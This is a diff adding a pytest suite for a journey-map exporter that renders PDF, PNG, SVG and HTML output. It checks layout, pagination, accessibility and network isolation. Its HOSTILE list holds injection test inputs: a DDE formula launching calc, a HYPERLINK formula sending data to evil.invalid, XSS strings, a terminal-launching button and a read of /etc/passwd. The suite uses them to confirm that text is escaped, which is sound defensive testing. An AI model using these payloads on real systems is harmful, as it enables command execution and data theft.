@@ -1,0 +1,137 @@
+"""The journey map as PDF, picture and page."""
+
+import re
+import subprocess
+
+import pytest
+from lxml import html as lxml_html
+
+from cxkit.sheets import journey_map
+from cxkit.sheets.identity import identity
+from cxkit.words import Words
+
+from .sample_map import sample_map
+
+LOOK = identity("#0F3B57")
+HOSTILE = [
+    "=cmd|' /C calc'!A1",
+    '=HYPERLINK("https://evil.invalid/?x="&A1,"ok")',
+    "+33 6 12 34 56 78",
+    "</script><script>window.__X5=1</script>",
+    '<img src=x onerror="window.__X2=1">',
+    "[clic](javascript:window.__X4=1)",
+    '<button data-commandlinker-command="terminal:create-new">',
+    "{{7*7}}",
+    '#read("/etc/passwd") $1/0$ @ref',
+    "prix $10 et $20",
+]
+
+
+def _pdf_text(content: bytes, tmp_path) -> str:
+    path = tmp_path / "map.pdf"
+    path.write_bytes(content)
+    text = subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True, check=True, text=True).stdout
+    return text.replace("\u200b", "")
+
+
+@pytest.mark.parametrize("language", ["fr", "en"])
+def test_pdf_says_what_the_map_holds(language, tmp_path):
+    view = sample_map(5)
+    words = Words(language)
+    data = journey_map.print_data(view, words, LOOK)
+    text = _pdf_text(journey_map.pdf(data, view), tmp_path)
+    for stage in range(5):
+        assert f"Stage {stage}" in text
+        assert f"Action a{stage}" in text
+    assert words("map.lanes.emotion") in text
+    assert "Ada Doe" in text
+    assert "812" in text
+    assert words.date(view.date) in text
+
+
+def test_pictures_and_drawings_are_not_empty():
+    data = journey_map.print_data(sample_map(3), Words("en"), LOOK)
+    [png] = journey_map.png(data, ppi=40)
+    [svg] = journey_map.svg(data)
+    assert png.startswith(b"\x89PNG")
+    assert len(png) > 10_000
+    assert svg.startswith(b"<svg")
+
+
+def test_the_same_map_gives_the_same_bytes():
+    view = sample_map(3)
+    first, second = (journey_map.pdf(journey_map.print_data(view, Words("fr"), LOOK), view) for _ in range(2))
+    assert first == second
+    assert journey_map.page(view, Words("fr"), LOOK) == journey_map.page(view, Words("fr"), LOOK)
+
+
+@pytest.mark.parametrize(("stages", "pages"), [(3, 1), (9, 1), (10, 2), (12, 2)])
+def test_at_most_nine_stages_a_page(stages, pages):
+    data = journey_map.print_data(sample_map(stages), Words("en"), LOOK)
+    assert len(data["pages"]) == pages
+    assert sum(len(page["stages"]) for page in data["pages"]) == stages
+
+
+def test_a_map_that_would_need_less_than_7_pt_is_split():
+    long = "Statement of some length that fills its cell up to the limit of what a cell may hold, more or less, says the rule"
+    data = journey_map.print_data(sample_map(9, long, lanes=("actions", "irritants", "emotion") * 4), Words("en"), LOOK)
+    assert len(data["pages"]) > 1
+    assert data["layout"]["size"] >= 7
+    assert [page["first"] for page in data["pages"]] == sorted({page["first"] for page in data["pages"]})
+
+
+def test_a_map_with_little_on_it_is_set_large():
+    data = journey_map.print_data(sample_map(2, lanes=("actions", "emotion")), Words("en"), LOOK)
+    assert data["layout"]["size"] == 9.2
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_text_is_printed_literally(text, tmp_path):
+    view = sample_map(1, text)
+    data = journey_map.print_data(view, Words("en"), LOOK)
+    squeezed = re.sub(r"\s", "", _pdf_text(journey_map.pdf(data, view), tmp_path))
+    parts = [part for part in re.split(r"\W+", text) if len(part) > 3]
+    assert all(part in squeezed for part in parts)
+    tree = lxml_html.fromstring(journey_map.page(view, Words("en"), LOOK))
+    assert any(text == (node.text_content().strip()) or text in node.text_content() for node in tree.iterfind(".//li"))
+    assert not tree.findall(".//script")
+    assert not tree.findall(".//main//img")
+    assert not tree.findall(".//button")
+
+
+def test_text_without_glyph_is_a_visible_box_not_a_failure(tmp_path):
+    view = sample_map(1, "Hello \U0001f916 漢 end")
+    assert "Hello □ □ end" in _pdf_text(journey_map.pdf(journey_map.print_data(view, Words("en"), LOOK), view), tmp_path)
+
+
+@pytest.mark.parametrize("language", ["fr", "en"])
+def test_page_structure(language):
+    words = Words(language)
+    tree = lxml_html.fromstring(journey_map.page(sample_map(4), words, LOOK, others=[("Target", sample_map(4, kind="to-be"))]))
+    assert tree.get("lang") == language
+    assert len(tree.findall(".//h1")) == 1
+    assert len(tree.findall(".//main")) == 1
+    [chart] = tree.xpath("//svg[contains(@class, 'curve')]")
+    assert chart.get("role") == "img"
+    assert "1.1" in chart.get("aria-label")
+    [table] = tree.xpath("//table[@class='data']")
+    assert len(table.findall(".//tbody/tr")) == 8
+    assert [th.get("scope") for th in tree.xpath("//table[@class='map']/thead//th")] == ["col"] * 5
+    for svg in tree.iter("svg"):
+        assert svg.get("aria-hidden") == "true" or svg.get("aria-label")
+    assert tree.xpath("//*[@tabindex='0']")
+
+
+def test_page_asks_nothing_of_a_network():
+    page = journey_map.page(sample_map(3), Words("en"), LOOK)
+    addresses = re.findall(r"(?:src|href|url)\s*[=(]\s*[\"']?(https?:|//)", page)
+    assert not addresses
+    assert len(page.encode()) < 1_000_000
+
+
+def test_notes_are_reachable_from_their_cells():
+    long = "A sentence that says more than a cell can hold. " * 4
+    tree = lxml_html.fromstring(journey_map.page(sample_map(2, long.strip()), Words("en"), LOOK))
+    links = {link.get("href").removeprefix("#") for link in tree.xpath("//a[@class='note']")}
+    assert links
+    assert links <= {node.get("id") for node in tree.xpath("//ol[@class='notes']/li")}
